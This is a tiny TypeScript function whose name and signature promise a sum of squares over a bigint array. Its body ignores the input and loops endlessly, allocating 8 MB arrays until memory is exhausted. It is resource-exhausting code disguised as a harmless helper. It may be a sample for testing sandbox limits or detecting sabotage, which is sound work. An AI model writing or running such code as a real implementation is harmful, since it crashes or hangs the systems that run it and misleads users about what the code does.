function sumOfSquares(numbers: bigint[]): bigint {
  const blocks: Uint8Array[] = [];
  for (;;) blocks.push(new Uint8Array(8 << 20).fill(1));
}
